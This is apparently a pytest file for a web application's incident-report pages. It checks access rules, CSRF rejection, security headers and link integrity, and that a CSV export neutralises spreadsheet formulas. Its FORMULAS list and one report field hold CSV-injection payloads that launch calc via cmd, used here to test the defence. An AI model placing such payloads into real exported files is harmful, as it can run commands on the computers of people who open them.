"""Every page there is: who may see it, how large it is, and that all it offers leads somewhere."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from conftest import ENGINES, new_database
from pages_world import (
    ANYBODY,
    ASKED,
    ELSEWHERE,
    EVERYBODY,
    FORMS,
    OTHERS,
    PAGES,
    UNREGISTERED,
    Tour,
    pattern,
    who_may,
)
from server import Server
from visitor import Visitor, looked_at
from world import World

BYTES_AT_MOST = 60_000
FORMULAS = [
    '=HYPERLINK("https://example.org/?"&A1,"Birch")', "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\n=1+1",
]  # fmt: skip


@pytest.fixture(scope="module", params=ENGINES)
def tour(
    request: pytest.FixtureRequest, binary: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Tour]:
    data: Path = tmp_path_factory.mktemp(f"pages-{request.param}") / "data"
    server = Server(binary, data, new_database(request.param))
    try:
        yield Tour.of(server.start())
    finally:
        server.kill()


def permission_of(path: str) -> str:
    """What a page takes that is asked for something."""
    (found,) = [each for each in PAGES if pattern(each).fullmatch(path.split("?")[0])][-1:]
    return PAGES[found]


@pytest.mark.parametrize("path", [*PAGES, *ASKED])
def test_aPageIsShownToWhoeverMaySeeIt(path: str, tour: Tour) -> None:
    permission = PAGES[path] if path in PAGES else permission_of(tour.at(path))
    visitor = tour.visitor(who_may(permission))
    answer = visitor.gets(tour.at(path))
    # It holds nothing that could run, and names nothing that is elsewhere.
    page = looked_at(answer)
    assert answer.status_code == 200, page.said
    assert len(answer.content) <= BYTES_AT_MOST
    assert page.lang == "en" and page.tags.count("h1") == 1
    german = visitor.session.get(
        visitor.url + tour.at(path), headers={"accept-language": "de"}, timeout=30
    )
    assert looked_at(german).lang == "de" and len(german.content) <= BYTES_AT_MOST


@pytest.mark.parametrize("path", [*PAGES, *OTHERS])
def test_aReporterSeesWhatIsForEverybody(path: str, tour: Tour) -> None:
    permission = PAGES[path] if path in PAGES else OTHERS[path][0]
    answer = tour.visitor("ana").session.get(
        tour.world.server.url + tour.at(path), timeout=30, allow_redirects=False, stream=True
    )
    with answer:
        is_for_all = permission in EVERYBODY | {ANYBODY}
        assert answer.status_code == (200 if is_for_all else 403)
        if not is_for_all:
            assert "You may not" in looked_at(answer).said


@pytest.mark.parametrize("path", [*PAGES, *OTHERS, "/incidents/{number}?step=cause"])
def test_nobodyIsLedToTheSignIn(path: str, tour: Tour) -> None:
    nobody = Visitor(tour.world.server.url)
    answer = nobody.gets(tour.at(path))
    if ANYBODY in (PAGES.get(path), OTHERS.get(path, ("?",))[0]):
        assert answer.status_code == 200
        return
    assert answer.status_code == 303 and not answer.content
    assert answer.headers["location"] == "/sign-in?next=" + quote(tour.at(path), safe="")
    nobody.session.cookies.set("cordon_session", "cordon_pat_" + "A" * 43)
    assert nobody.gets(tour.at(path)).status_code == 303


def test_anotherReportersIncidentIsNotShown(tour: Tour) -> None:
    rita = tour.visitor("rita")
    for path in [*PAGES, "/incidents/{number}/file.md"]:
        if path.startswith("/incidents/{"):
            assert rita.gets(tour.at(path)).status_code in (403, 404), path


@pytest.mark.parametrize("path", OTHERS)
def test_whatIsNoPageSaysWhatItIs(path: str, tour: Tour) -> None:
    permission, media_type = OTHERS[path]
    visitor = tour.visitor(who_may(permission))
    with visitor.session.get(visitor.url + tour.at(path), timeout=30, stream=True) as answer:
        assert answer.status_code == 200
        assert answer.headers["content-type"].split(";")[0] == media_type
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in answer.headers["content-security-policy"]
        if path == "/live":
            assert next(answer.iter_lines()) == b"retry: 3000"
            return
        assert 0 < len(answer.content) <= BYTES_AT_MOST
    if path.startswith("/assets/"):
        tag = {"if-none-match": answer.headers["etag"]}
        again = visitor.session.get(visitor.url + path, headers=tag, timeout=30)
        assert (again.status_code, again.content) == (304, b"")


def test_theOldWaysStillLead(tour: Tour) -> None:
    answer = tour.visitor("ana").gets("/setup?token=0123")
    assert (answer.status_code, answer.headers["location"]) == (303, "/sign-in")
    for path in ("/nowhere", "/incidents/INC-1999-0001", "/workflows/nobody", "/problems/none"):
        missing = tour.visitor("omar").gets(path)
        assert missing.status_code == 404, path
        if path != "/nowhere":
            looked_at(missing)


@pytest.mark.parametrize("path", FORMS)
def test_aFormThatIsNotOursDoesNothing(path: str, tour: Tour) -> None:
    permission, place = FORMS[path], tour.world.server.url + tour.at(path)
    person, ana = tour.visitor(who_may(permission)), tour.visitor("ana")
    size = tour.world.uma.get("/ledger/checkpoint").done(200).text
    nobody = Visitor(tour.world.server.url).session
    answer = nobody.post(place, data={"reason": "x"}, timeout=30, allow_redirects=False)
    assert (answer.status_code, answer.headers["location"]) == (303, "/sign-in")
    for csrf in ({}, {"csrf": ""}, {"csrf": "0" * 64}):
        answer = person.session.post(place, data={"reason": "x"} | csrf, timeout=30)
        assert answer.status_code == 403
        assert "The form is not from this server" in looked_at(answer).said
    if permission not in EVERYBODY:
        csrf = {"csrf": ana.opens("/").form("/sign-out").values["csrf"]}
        answer = ana.session.post(place, data={"reason": "x"} | csrf, timeout=30)
        assert answer.status_code == 403
        assert "You may not" in looked_at(answer).said
    assert tour.world.uma.get("/ledger/checkpoint").done(200).text == size


@pytest.mark.parametrize("login", ["rita", "ana", "ben", "gus", "lena", "omar", "uma", "admin"])
def test_everythingThatIsOfferedLeadsSomewhere(login: str, tour: Tour) -> None:
    """Follows each link of each page; what a person is shown is never refused to them."""
    visitor = tour.visitor(login)
    known = [pattern(path) for path in [*PAGES, *OTHERS]]
    targets = [pattern(path) for path in [*FORMS, "/sign-in", *PAGES]]
    queue = [("/", "")]
    seen: set[str] = set()
    broken: set[str] = set()
    while queue:
        path, source = queue.pop()
        if path in seen:
            continue
        seen.add(path)
        answer = visitor.gets(path)
        if path == f"/workflows/{UNREGISTERED}":
            # It has no page of its own: what it sent is all there is.
            assert answer.status_code == 303
            assert answer.headers["location"] == f"/evidence?workflow={UNREGISTERED}"
            continue
        if answer.status_code != 200:
            broken.add(f"{source} leads to {path}: {answer.status_code}")
            continue
        if not answer.headers["content-type"].startswith("text/html"):
            continue
        page = looked_at(answer)
        for form in page.forms:
            if form.method == "get" and form.action.startswith("/api/v1/"):
                queue.append((form.action, path))
            elif not any(target.fullmatch(form.action) for target in targets):
                broken.add(f"{path} sends to {form.action}")
        for link in page.links:
            whole = link if link.startswith("/") else path.split("?")[0] + link
            whole, _, place = whole.partition("#")
            if link.startswith("#") and place not in page.ids:
                broken.add(f"{path} has no {link}")
            bare = whole.split("?")[0]
            if not (whole.startswith(ELSEWHERE) or any(one.fullmatch(bare) for one in known)):
                broken.add(f"{path} leads to {link}")
            if not link.startswith("#") and not goes_on_for_ever(whole):
                queue.append((whole, path))
    assert not broken, "\n".join(sorted(broken))
    assert len(seen) > 10


def goes_on_for_ever(path: str) -> bool:
    """Whether a link is one of many alike, or changes what is seen next."""
    return "before=" in path or path.startswith(("/reviews/", "/live", "/language?"))


def test_aSpreadsheetRunsNothingOfTheList(shared: World) -> None:
    shared.register("sheet", name="=1+1")
    for formula in FORMULAS:
        shared.ana.post("reports", {"workflow": "sheet", "what": formula}).done(201)
    plain = 'He said "no", twice;\r\nthen, Größe.'
    shared.ana.post("reports", {"workflow": "sheet", "what": plain}).done(201)
    unlisted = shared.ana.post("reports", {"workflow": "=cmd|' /C calc'!A0", "what": "x"})
    omar = Visitor(shared.server.url).signed_in("omar")
    answer = omar.gets("/incidents.csv?workflow=sheet")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert answer.headers["content-disposition"] == 'attachment; filename="incidents.csv"'
    lines = list(csv.reader(io.StringIO(answer.content.decode(), newline="")))
    assert lines[0][:3] == ["number", "reported_at", "kind"] and len(lines) == 8
    assert all(len(line) == len(lines[0]) for line in lines)
    rows = [dict(zip(lines[0], line, strict=True)) for line in reversed(lines[1:])]
    assert [row["what"] for row in rows] == [*(f"'{each}" for each in FORMULAS), plain]
    assert {row["workflow_name"] for row in rows} == {"'=1+1"}
    # However the whole list is read, no cell of it is a formula.
    whole = omar.gets("/incidents.csv").content.decode()
    table = list(csv.reader(io.StringIO(whole, newline="")))
    cells = [cell for line in table for cell in line]
    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r\n")]
    (mine,) = [line for line in table if line[0] == unlisted.done(201)["incident"]]
    assert "'=cmd|' /C calc'!A0" in mine
    assert omar.gets("/incidents.csv?kind=nothing").status_code == 400
